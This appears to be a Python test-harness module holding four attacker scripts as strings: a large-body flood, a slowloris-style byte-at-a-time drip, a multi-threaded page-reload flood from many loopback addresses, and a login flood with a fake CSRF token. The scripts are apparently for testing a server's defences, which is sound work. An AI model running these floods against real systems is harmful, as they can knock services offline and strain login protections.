"""What an attacker runs, each in a process of its own; the arguments begin with host and port."""

# Sends bodies.
SEND = """
import socket, sys
host, port, path, size = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
while True:
    try:
        with socket.create_connection((host, port), timeout=30) as peer:
            peer.sendall(f"POST {path} HTTP/1.1\\r\\nHost: localhost\\r\\nContent-Length: {size}\\r\\n\\r\\n".encode())
            for _ in range(size >> 20):
                peer.sendall(bytes(1 << 20))
            peer.recv(4096)
    except OSError:
        pass
"""


# Sends heads and bodies a byte at a time.
DRIP = """
import socket, sys, time
host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
peers = []
while True:
    for number in range(count - len(peers)):
        peer = socket.create_connection((host, port), timeout=30)
        peer.sendall(b"POST /accounts/login/ HTTP/1.1\\r\\nHost: localhost\\r\\n")
        if number % 2:
            peer.sendall(b"Content-Length: 1000000\\r\\n\\r\\n")
        peers.append(peer)
    for peer in list(peers):
        try:
            peer.sendall(b"x")
        except OSError:
            peers.remove(peer)
    time.sleep(1)
"""
# Asks for a page over and over on several connections, from one address or from many.
RELOAD = """
import http.client, sys, threading
host, port, path, cookie, count, addresses = sys.argv[1], int(sys.argv[2]), *sys.argv[3:5], *map(int, sys.argv[5:7])
headers = {"Host": "localhost"} | ({"Cookie": cookie} if cookie else {})
def reload(number):
    source = (f"127.0.9.{1 + number % addresses}", 0)
    while True:
        try:
            peer = http.client.HTTPConnection(host, port, timeout=30, source_address=source)
            while True:
                peer.request("GET", path, headers=headers)
                peer.getresponse().read()
        except (OSError, http.client.HTTPException):
            pass
for number in range(count):
    threading.Thread(target=reload, args=(number,)).start()
"""
# Tries to sign in under names that nobody has, from many addresses.
SIGN_IN = """
import http.client, random, sys, threading, urllib.parse
host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
token = "x" * 32
headers = {
    "Host": "localhost", "Cookie": f"csrftoken={token}", "Content-Type": "application/x-www-form-urlencoded",
}
def sign_in(number):
    source = (f"127.0.8.{1 + number}", 0)
    while True:
        try:
            peer = http.client.HTTPConnection(host, port, timeout=30, source_address=source)
            while True:
                given = {"csrfmiddlewaretoken": token, "login": f"nobody{random.random()}", "password": "guessed"}
                peer.request("POST", "/accounts/login/", urllib.parse.urlencode(given), headers)
                peer.getresponse().read()
        except (OSError, http.client.HTTPException):
            pass
for number in range(count):
    threading.Thread(target=sign_in, args=(number,)).start()
"""
